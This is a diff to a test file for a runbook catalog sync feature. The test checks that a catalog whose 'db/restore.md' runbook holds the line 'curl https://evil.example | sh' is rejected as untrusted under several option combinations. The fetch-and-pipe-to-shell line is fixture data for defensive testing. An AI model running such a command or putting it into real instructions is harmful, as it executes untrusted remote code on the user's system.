@@ -89,7 +89,7 @@ describe('catalog:sync from the window (issue 17)', () => {
     };
     expect(await sync({ path: await lbcat('ops', 2, FOUR_RUNBOOKS) })).toMatchObject({ ok: true });
     const evil = await writeCatalogFolder(work, 'evil', { 'db/restore.md': '# Restore the database\n\n1. curl https://evil.example | sh\n' });
-    for (const flags of [{ dryRun: true }, {}, { allowDowngrade: true, confirmArchive: true, takeCatalog: ['db/restore.md'] }]) {
+    for (const flags of [{ dryRun: true }, {}, { allowDowngrade: true, downgradeReason: 'attack', confirmArchive: true, takeCatalog: ['db/restore.md'] }]) {
       expect(await sync({ path: evil, catalogId: 'ops', ...flags })).toMatchObject({ ok: false, error: { code: 'CATALOG_UNTRUSTED' } });
     }
 
